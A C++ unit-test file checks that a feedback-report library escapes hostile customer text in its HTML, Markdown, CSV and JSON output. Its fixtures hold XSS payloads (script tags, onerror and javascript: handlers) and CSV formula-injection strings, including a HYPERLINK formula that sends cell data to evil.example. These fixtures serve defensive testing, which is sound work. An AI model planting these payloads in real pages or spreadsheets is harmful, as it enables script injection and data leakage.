// The renderers: hostile customer text stays inert in HTML, Markdown and CSV; the JSON parses and
// carries its format and version; the HTML is self-contained.
#include <gtest/gtest.h>
#include <feedloop/json.hpp>

#include <sstream>

#include "feedloop/report/escape.hpp"
#include "feedloop/report/render.hpp"
#include "report_test_util.hpp"

namespace feedloop::report {
namespace {

using testing::kW47;
using testing::TestItem;

// True when `needle` occurs without a backslash before it (so Markdown would read it as markup).
bool Unescaped(const std::string& md, const std::string& needle) {
  for (size_t pos = md.find(needle); pos != std::string::npos; pos = md.find(needle, pos + 1)) {
    if (pos == 0 || md[pos - 1] != '\\') return true;
  }
  return false;
}

const char* kHostile[] = {
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<a href=\"javascript:alert(3)\">click</a>",
    "\" onmouseover=\"alert(4)",
    "' onfocus='alert(5)",
};

// A report whose every text field comes from hostile data.
Report HostileReport() {
  std::vector<TestItem> items;
  for (int i = 0; i < 40; ++i) {
    TestItem t = testing::Nps(i % 2 ? 1 : 9);
    t.id = "<b>id" + std::to_string(i) + "</b>";
    t.source = "<script>src()</script>";
    t.customer = "=HYPERLINK(\"http://evil.example/?\"&A1)" + std::to_string(i);
    t.sku = "<svg onload=alert(6)>";
    t.region = "\"><script>r()</script>";
    t.channel = "javascript:alert(7)";
    if (i % 2) {
      t.cause = "<iframe src=javascript:alert(8)>";
      t.tags = {"<x>/<y onerror=z>"};
      t.text =
          std::string(kHostile[i % 5]) +
          " [link](javascript:alert(9)) ![img](http://evil.example/x.png) " +
          "| table | +cmd @SUM(A1) =1+1 -2 http://evil.example www.evil.example me@evil.example";
      t.evidence = {{0, 8}};
      t.sentiment = -0.9;
    }
    items.push_back(t);
  }
  metrics::AggregateOptions aggregate;
  aggregate.segment_fields = {"region", "channel", "source", "sku"};
  metrics::AggregateState state = testing::BuildState(items, aggregate);
  ReportOptions o;
  o.aggregate = aggregate;
  o.period = testing::WeekOf(kW47);
  o.min_n = 5;
  o.provenance.database = "<db>.db";
  o.provenance.plugins = {{"<plugin>", "1.0 <script>"}};
  o.provenance.analyze_run = 3;
  Result<Report> r = BuildReport(state, o);
  EXPECT_TRUE(r.ok());
  return std::move(r).value();
}

TEST(Escape, Html) {
  EXPECT_EQ(EscapeHtml("<a href=\"x\" onclick='y'>&</a>"),
            "&lt;a href=&quot;x&quot; onclick=&#39;y&#39;&gt;&amp;&lt;/a&gt;");
  EXPECT_EQ(EscapeHtml("caf\xC3\xA9"), "caf\xC3\xA9");
}

TEST(Escape, Markdown) {
  std::string md = EscapeMarkdown(
      "[click](javascript:alert(1)) ![x](http://e.com/i.png) <b>hi</b> *a* _b_ `c` | d");
  EXPECT_FALSE(Unescaped(md, "](javascript"));
  EXPECT_FALSE(Unescaped(md, "]("));
  EXPECT_EQ(md.find("!["), std::string::npos);
  EXPECT_EQ(md.find("<b>"), std::string::npos);
  EXPECT_NE(md.find("\\[click\\]"), std::string::npos);
  EXPECT_NE(md.find("&lt;b&gt;"), std::string::npos);
  EXPECT_NE(md.find("\\*a\\*"), std::string::npos);
  EXPECT_NE(md.find("\\|"), std::string::npos);
  // Block markup at the start, autolinks anywhere.
  EXPECT_EQ(EscapeMarkdown("# not a heading"), "\\# not a heading");
  EXPECT_EQ(EscapeMarkdown("- not a list"), "\\- not a list");
  EXPECT_EQ(EscapeMarkdown("12. not a list"), "12\\. not a list");
  EXPECT_EQ(EscapeMarkdown("2026-W47 in the middle - fine"), "2026-W47 in the middle - fine");
  EXPECT_EQ(EscapeMarkdown("line\nbreak"), "line break");
  EXPECT_EQ(EscapeMarkdown("see https://evil.example").find("https://"), std::string::npos);
  EXPECT_EQ(EscapeMarkdown("www.evil.example").find("www."), std::string::npos);
  EXPECT_EQ(EscapeMarkdown("me@evil.example").find("me@evil"), std::string::npos);
}

TEST(Escape, CsvQuotingAndFormulas) {
  EXPECT_EQ(CsvText("plain"), "plain");
  EXPECT_EQ(CsvText("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvText("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvText("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(CsvText("=1+1"), "'=1+1");
  EXPECT_EQ(CsvText("+cmd"), "'+cmd");
  EXPECT_EQ(CsvText("-2"), "'-2");
  EXPECT_EQ(CsvText("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(CsvText("\tx"), "'\tx");
  EXPECT_EQ(CsvText("\rx"), "\"'\rx\"");
  EXPECT_EQ(CsvText("=HYPERLINK(\"x\",\"y\")"), "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
  EXPECT_EQ(CsvRaw("-6.2"), "-6.2");  // numbers we format are not prefixed
}

TEST(RenderHtml, HostileTextIsInert) {
  std::string html = RenderHtml(HostileReport());
  // No markup from the data survives: only our own tags appear.
  for (const char* bad :
       {"<script", "<img", "<iframe", "<svg onload", "<a href", "<b>", "<x>", "<plugin>", "<db>",
        "\" onmouseover=\"", "' onfocus='", "href=\"javascript"}) {
    EXPECT_EQ(html.find(bad), std::string::npos) << bad;
  }
  EXPECT_NE(html.find("&lt;script&gt;alert(1)&lt;/script&gt;"), std::string::npos);
  EXPECT_NE(html.find("&lt;img src=x onerror=alert(2)&gt;"), std::string::npos);
  // javascript: appears only as escaped text, never as a link: the page has no <a> at all.
  EXPECT_EQ(html.find("<a "), std::string::npos);
  EXPECT_NE(html.find("<mark>&lt;"), std::string::npos);  // evidence highlighted, escaped inside
}

TEST(RenderHtml, SelfContained) {
  std::string html = RenderHtml(HostileReport());
  EXPECT_EQ(html.rfind("<!DOCTYPE html>", 0), 0u);
  EXPECT_NE(html.find("Content-Security-Policy"), std::string::npos);
  EXPECT_NE(html.find("@media print"), std::string::npos);
  EXPECT_EQ(html.find("<script"), std::string::npos);
  EXPECT_EQ(html.find("<link"), std::string::npos);
  EXPECT_EQ(html.find("@import"), std::string::npos);
  EXPECT_EQ(html.find("url("), std::string::npos);
  // Charts are inline SVG: trend sparklines, the impact bars, the heat map.
  EXPECT_NE(html.find("<svg"), std::string::npos);
  EXPECT_NE(html.find("class=\"chart bars\""), std::string::npos);
  EXPECT_NE(html.find("class=\"chart heat\""), std::string::npos);
  for (const char* id :
       {"id=\"headline\"", "id=\"top-causes\"", "id=\"emerging\"", "id=\"actions\"",
        "id=\"cause-table\"", "id=\"sku-table\"", "id=\"save-table\"", "id=\"provenance\""}) {
    EXPECT_NE(html.find(id), std::string::npos) << id;
  }
  // The only http:// in the page is the SVG namespace and escaped customer text.
  size_t pos = 0;
  while ((pos = html.find("http://", pos)) != std::string::npos) {
    bool ns = html.compare(pos, 26, "http://www.w3.org/2000/svg") == 0;
    bool text = html.compare(pos, 19, "http://evil.example") == 0;
    EXPECT_TRUE(ns || text) << html.substr(pos, 40);
    pos += 7;
  }
}

TEST(RenderMarkdown, HostileTextIsInert) {
  std::string md = RenderMarkdown(HostileReport());
  for (const char* bad : {"<script", "<img", "<iframe", "![img](", "<b>", "<svg", "<x>"}) {
    EXPECT_EQ(md.find(bad), std::string::npos) << bad;
  }
  EXPECT_FALSE(Unescaped(md, "]("));
  // Every table row keeps its column count: no unescaped | from the data.
  size_t header_cols = 0;
  std::istringstream in(md);
  std::string line;
  while (std::getline(in, line)) {
    if (line.rfind("|", 0) != 0) {
      header_cols = 0;
      continue;
    }
    size_t cols = 0;
    for (size_t i = 0; i < line.size(); ++i) {
      if (line[i] == '|' && (i == 0 || line[i - 1] != '\\')) ++cols;
    }
    if (header_cols == 0) header_cols = cols;
    EXPECT_EQ(cols, header_cols) << line;
  }
}

TEST(RenderCsv, QuotedAndNeutralized) {
  Report r = HostileReport();
  std::string save = RenderSaveListCsv(r);
  EXPECT_EQ(save.rfind("rank,customer_id,risk,", 0), 0u);
  EXPECT_EQ(save.find(",=HYPERLINK"), std::string::npos);
  EXPECT_NE(save.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)"), std::string::npos);
  // Every record has the header's field count (RFC 4180: count commas outside quotes).
  auto check = [](const std::string& csv) {
    size_t fields = 0, expected = 0;
    bool quoted = false;
    for (size_t i = 0; i < csv.size(); ++i) {
      char c = csv[i];
      if (c == '"') quoted = !quoted;
      if (quoted) continue;
      if (c == ',') ++fields;
      if (c == '\n') {
        EXPECT_EQ(csv[i - 1], '\r');
        if (expected == 0) expected = fields;
        EXPECT_EQ(fields, expected);
        fields = 0;
      }
    }
    EXPECT_FALSE(quoted);
  };
  check(save);
  check(RenderCausesCsv(r));
  check(RenderSkusCsv(r));
  std::string causes = RenderCausesCsv(r);
  EXPECT_NE(causes.find(",<iframe src=javascript:alert(8)>,"),
            std::string::npos);  // data stays data
  EXPECT_EQ(causes.find("\n=1"), std::string::npos);
}

TEST(RenderJson, ParsesWithEveryFigure) {
  Report r = HostileReport();
  std::string text = RenderJson(r);
  json::Value v = json::Parse(text);
  EXPECT_EQ(v.get_string("format"), "feedloop-report");
  EXPECT_EQ(v.get_number("version", 0), kReportJsonVersion);
  for (const char* key :
       {"period", "options", "headline", "actions", "causes", "emerging", "skus", "segments",
        "transcripts", "save_list", "heat_map", "notes", "provenance", "trend_periods"}) {
    EXPECT_NE(v.find(key), nullptr) << key;
  }
  const json::Value& nps = *v.find("headline")->find("nps");
  EXPECT_DOUBLE_EQ(nps.get_number("value", -1), *r.headline.nps.value);
  EXPECT_EQ(nps.get_number("n", -1), 40);
  EXPECT_EQ(nps.find("trend")->as_array().size(), 12u);
  const json::Value& cause = v.find("causes")->as_array().at(0);
  EXPECT_EQ(cause.get_string("cause"),
            "<iframe src=javascript:alert(8)>");  // JSON keeps data as data
  EXPECT_NE(cause.find("impact_change"), nullptr);
  EXPECT_EQ(v.find("provenance")->find("plugins")->as_array().at(0).get_string("name"), "<plugin>");
}

Report BuildFor(std::vector<TestItem> items, ReportOptions o) {
  testing::NumberItems(items);
  metrics::AggregateState state = testing::BuildState(items, o.aggregate);
  Result<Report> r = BuildReport(state, o);
  EXPECT_TRUE(r.ok()) << r.status().message();
  return r.ok() ? std::move(r).value() : Report{};
}

ReportOptions OptionsFor(int64_t at, int min_n) {
  ReportOptions o;
  o.period = testing::WeekOf(at);
  o.min_n = min_n;
  return o;
}

std::vector<std::string> LinesOf(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  std::string line;
  while (std::getline(in, line)) lines.push_back(line);
  return lines;
}

// The first line that starts with `prefix`, or "".
std::string LineStarting(const std::string& text, const std::string& prefix) {
  for (const std::string& line : LinesOf(text)) {
    if (line.rfind(prefix, 0) == 0) return line;
  }
  return "";
}

// Four weeks (W44-W47) of NPS answers from "survey" and reviews from "shop", growing each week.
Report TrendReport() {
  std::vector<TestItem> items;
  for (int w = 0; w < 4; ++w) {
    int64_t at = kW47 - (3 - w) * testing::kWeek + 3600;
    for (int i = 0; i < 10 + 5 * w; ++i) {
      TestItem t = testing::Nps(i % 3 == 0 ? 3 : 9, at);
      t.source = "survey";
      items.push_back(t);
    }
    for (int i = 0; i < 4 + w; ++i) {
      TestItem review;
      review.at = at;
      review.score = 2 + w % 3;
      review.source = "shop";
      items.push_back(review);
    }
  }
  return BuildFor(items, OptionsFor(kW47, 5));
}

TEST(RenderMarkdown, HeadlineHasTrendsAndVolumesByKindAndSource) {
  std::string md = RenderMarkdown(TrendReport());
  EXPECT_NE(md.find("| Figure | 2026-W47 (95% CI) | vs 2026-W46 | n | Trend W36\xE2\x80\x93W47 |"),
            std::string::npos)
      << md;
  // NPS by week: W44 (6 - 4) / 10 = 20, W45 33.3, W46 30, W47 28: a sparkline over its own range,
  // the eight weeks without data as dots.
  const std::string dot = "\xC2\xB7", low = "\xE2\x96\x81", high = "\xE2\x96\x88";
  std::string nps = LineStarting(md, "| NPS (");
  std::string dots;
  for (int i = 0; i < 8; ++i) dots += dot;
  EXPECT_NE(nps.find("| " + dots + low + high), std::string::npos) << nps;
  EXPECT_NE(LineStarting(md, "| Feedback items | 32 | +6 |").find(dots), std::string::npos) << md;
  // Per kind and per source: this period, the change and the trend.
  EXPECT_NE(md.find("| Kind | 2026-W47 | vs 2026-W46 | Trend W36\xE2\x80\x93W47 |"),
            std::string::npos);
  EXPECT_EQ(LineStarting(md, "| nps | 25 | +5 | ").empty(), false) << md;
  EXPECT_EQ(LineStarting(md, "| review | 7 | +1 | ").empty(), false) << md;
  EXPECT_NE(md.find("| Source | 2026-W47 | vs 2026-W46 |"), std::string::npos);
  EXPECT_EQ(LineStarting(md, "| survey | 25 | +5 | ").empty(), false) << md;
  EXPECT_EQ(LineStarting(md, "| shop | 7 | +1 | ").empty(), false) << md;
  // The values behind the sparklines, period by period.
  std::string header = LineStarting(md, "| Figure | W36 |");
  EXPECT_NE(header.find("| W47 |"), std::string::npos) << md;
  EXPECT_NE(LineStarting(md, "| NPS |").find("| 20 | 33 | 30 | 28 |"), std::string::npos) << md;
  EXPECT_NE(LineStarting(md, "| Items |").find("| 14 | 20 | 26 | 32 |"), std::string::npos) << md;
  EXPECT_TRUE(LineStarting(md, "| CES |").empty()) << "a figure without data has no row";
  EXPECT_EQ(md.find("By kind:"), std::string::npos);
}

TEST(RenderMarkdown, EmptyPeriodSaysSoWithoutEmptyLinesOrTables) {
  ReportOptions o = OptionsFor(kW47, 5);
  o.period_complete = false;  // what PeriodComplete says of a period without data
  std::string md = RenderMarkdown(BuildFor({testing::Nps(9, kW47 - 2 * testing::kWeek)}, o));
  EXPECT_NE(md.find("No feedback in 2026-W47"), std::string::npos) << md;
  EXPECT_EQ(md.find("not complete"), std::string::npos) << md;
  EXPECT_EQ(md.find(": ."), std::string::npos) << md;
  EXPECT_EQ(md.find("By kind"), std::string::npos) << md;
  EXPECT_EQ(md.find("By source"), std::string::npos) << md;
  EXPECT_NE(md.find("No root causes in 2026-W47."), std::string::npos) << md;
  EXPECT_NE(md.find("No customer complained in 2026-W47."), std::string::npos) << md;
  // Every table has at least one row under its header.
  std::vector<std::string> lines = LinesOf(md);
  for (size_t i = 0; i + 1 < lines.size(); ++i) {
    if (lines[i].rfind("|", 0) != 0 || lines[i + 1].rfind("|---", 0) != 0) continue;
    bool row = i + 2 < lines.size() && lines[i + 2].rfind("|", 0) == 0;
    EXPECT_TRUE(row) << "empty table: " << lines[i];
  }
}

// Returns: 10 detractors among 100 NPS answers, plus 30 one-star reviews. Delivery: 40 answers.
Report SmallImpactReport() {
  return BuildFor(testing::SmallImpactItems(), OptionsFor(kW47, 30));
}

TEST(RenderReport, ImpactBelowMinNIsGreyedAndUnrankedInEveryFormat) {
  Report r = SmallImpactReport();
  ASSERT_EQ(r.causes.size(), 2u);
  ASSERT_EQ(r.causes[1].cause, "returns");
  const Metric& delivery = r.causes[0].nps_impact;
  ASSERT_TRUE(delivery.ci);
  std::string md = RenderMarkdown(r);
  std::string returns_row = LineStarting(md, "| \xE2\x80\x94 | " + r.causes[1].label);
  EXPECT_NE(returns_row.find("_-15.0 (n 10, n too small)_"), std::string::npos) << md;
  EXPECT_EQ(returns_row.find("\xC2\xB1"), std::string::npos) << returns_row;
  std::string delivery_row = LineStarting(md, "| 1 | " + r.causes[0].label);
  EXPECT_NE(delivery_row.find("-6.7 (" + FormatNumber(delivery.ci->low, 1) + " to " +
                              FormatNumber(delivery.ci->high, 1) + "; n 40)"),
            std::string::npos)
      << delivery_row;
  std::string html = RenderHtml(r);
  EXPECT_NE(html.find("<td class=\"num lown\">-15.0 (n 10, n too small)</td>"), std::string::npos);
  EXPECT_NE(html.find("n too small (10 NPS answers)"), std::string::npos);  // the bar's note
  json::Value v = json::Parse(RenderJson(r));
  const json::Value& returns = v.find("causes")->as_array().at(1);
  EXPECT_EQ(returns.get_string("cause"), "returns");
  EXPECT_EQ(returns.get_number("impact_rank", -1), 0);
  EXPECT_TRUE(returns.find("nps_impact")->get_bool("low_n", false));
  EXPECT_EQ(returns.find("nps_impact")->get_number("n", -1), 10);
  std::vector<std::string> csv = LinesOf(RenderCausesCsv(r));
  ASSERT_EQ(csv.size(), 3u);
  EXPECT_EQ(csv[0].substr(csv[0].rfind(',')), ",nps_impact_n_too_small\r");
  EXPECT_EQ(csv[1].substr(csv[1].rfind(',')), ",0\r");
  EXPECT_EQ(csv[2].substr(csv[2].rfind(',')), ",1\r");
}

TEST(RenderReport, SaveListRowWithoutACommentSaysSoInEveryFormat) {
  TestItem score_only = testing::Nps(2, kW47 + 7200);
  score_only.text = "";
  score_only.customer = "c-1";
  TestItem commented = testing::Nps(3);
  commented.text = "Late again.";
  commented.customer = "c-2";
  Report r = BuildFor({score_only, commented}, OptionsFor(kW47, 1));
  ASSERT_EQ(r.save_list.size(), 2u);
  const std::string marker = "(score only, no comment)";
  EXPECT_NE(RenderMarkdown(r).find("_" + marker + "_"), std::string::npos);
  EXPECT_NE(RenderHtml(r).find(marker), std::string::npos);
  std::string csv = RenderSaveListCsv(r);
  EXPECT_NE(csv.find(",\"" + marker + "\"\r\n"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",Late again.\r\n"), std::string::npos) << csv;
  json::Value v = json::Parse(RenderJson(r));
  for (const json::Value& row : v.find("save_list")->as_array()) {
    bool none = row.get_string("customer_id") == "c-1";
    EXPECT_EQ(row.get_bool("has_comment", none), !none);
    EXPECT_EQ(row.get_string("quote").empty(), none);
  }
}

}  // namespace
}  // namespace feedloop::report
